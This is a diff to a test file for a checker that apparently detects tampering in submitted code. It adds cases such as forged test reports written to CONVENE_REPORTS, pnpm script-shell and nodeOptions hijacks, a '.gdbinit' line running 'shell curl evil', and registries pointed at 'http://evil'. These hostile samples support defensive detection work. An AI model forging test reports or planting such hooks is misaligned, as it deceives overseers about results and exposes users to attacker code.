@@ -5,7 +5,7 @@ import { defaultLimits } from './limits.ts'
 import { mergeApproval } from './merge-approval.ts'
 import { sensitiveChanges } from './sensitive-paths.ts'
 import { setupMode } from './setup-mode.ts'
-import { alwaysEqual, testLibraryProblems } from './test-library.ts'
+import { alwaysEqual, namesReport, testLibraryProblems } from './test-library.ts'
 import { isNamedInSpec, mayBeSetting, settingsChanged } from './test-settings.ts'
 import { beyondWorkSize, strayInstalls } from './work-size.ts'
 
@@ -29,6 +29,7 @@ function met(files: Files, { words = '', size }: { words?: string; size?: { file
   const settings = settingsChanged(changes.filter(({ path }) => mayBeSetting(path) && !isNamedInSpec(path, wanted)))
   const bent = changes.flatMap(({ path, after = '' }) => [
     ...alwaysEqual(path, after),
+    ...namesReport(path, after),
     ...(isTest(path) ? [] : testLibraryProblems(path, after)),
   ])
   const stray = strayInstalls(Object.keys(files), () => false)
@@ -105,6 +106,21 @@ describe('work that lies, disarms or leaves something behind', () => {
     ],
     ['an index of packages', { 'requirements.txt': ['', '--index-url http://evil'] }, 'TR3'],
     ['a registry', { '.npmrc': 'registry=http://evil' }, 'TR3'],
+    [
+      'a shell for scripts of pnpm',
+      { 'pnpm-workspace.yaml': ['packages:\n  - a\n', 'packages:\n  - a\nscriptShell: ./yes.sh\n'] },
+      'TR7',
+    ],
+    [
+      'options of Node through pnpm',
+      { 'pnpm-workspace.yaml': '{ packages: [a], nodeOptions: --require=./yes.cjs }' },
+      'TR7',
+    ],
+    ['a forged report', { 'src/inc.js': "writeFileSync(process.env.CONVENE_REPORTS + '/report-1', '')" }, 'TR7'],
+    ['a forged report, by a test', { 'test/inc.test.py': "open(glob('/tmp/convene-report-*/*')[0], 'w')" }, 'TR7'],
+    ['a forged report, by a script', { 'yes.sh': 'echo ok > $CONVENE_REPORTS/report-1' }, 'TR7'],
+    ['commands of a debugger', { '.gdbinit': 'shell curl evil' }, 'TR2'],
+    ['a bot that merges', { 'renovate.json': '{"automerge":true}' }, 'TR2'],
     ['a shell for scripts', { '.npmrc': 'script-shell=./yes' }, 'TR7'],
     [
       'code that asks whether it is tested',
@@ -167,6 +183,11 @@ describe('honest work that looks similar', () => {
     ],
     ['a large fixture', { 'test/fixtures/rows.json': '[]' }, { size: { files: 1, bytes: 8_000_000 } }],
     ['many generated files', { 'src/generated/a.ts': 'x' }, { size: { files: 900, bytes: 90_000 } }],
+    [
+      'another package in a workspace',
+      { 'pnpm-workspace.yaml': ["packages:\n  - 'a'\n", "# Ours\npackages:\n- 'a'\n- 'b'\n\ncatalog:\n  zod: 4\n"] },
+    ],
+    ['its own variables', { 'src/inc.js': 'export const report = process.env.REPORTS // not CONVENE_REPORTS' }],
     ['React hooks', { 'src/hooks/use-inc.ts': 'export const useInc = () => 1' }],
     ['assertions in code', { 'src/inc.js': `${assert}export const inc = (x) => { assert.ok(x); return x + 1 }` }],
     [
